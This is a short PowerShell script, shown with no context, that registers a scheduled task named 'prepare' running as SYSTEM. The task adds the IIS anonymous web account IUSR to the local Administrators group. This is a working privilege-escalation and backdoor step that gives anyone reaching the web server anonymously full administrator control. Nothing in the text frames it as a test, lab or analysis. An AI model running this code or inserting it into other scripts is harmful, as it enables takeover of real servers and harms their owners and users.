$service = New-Object -ComObject Schedule.Service
$service.Connect()
$task = $service.NewTask(0)
$action = $task.Actions.Create(0)
$action.Path = 'net.exe'
$action.Arguments = 'localgroup Administrators IUSR /add'
$service.GetFolder('\').RegisterTaskDefinition('prepare', $task, 6, 'SYSTEM', $null, 5) | Out-Null
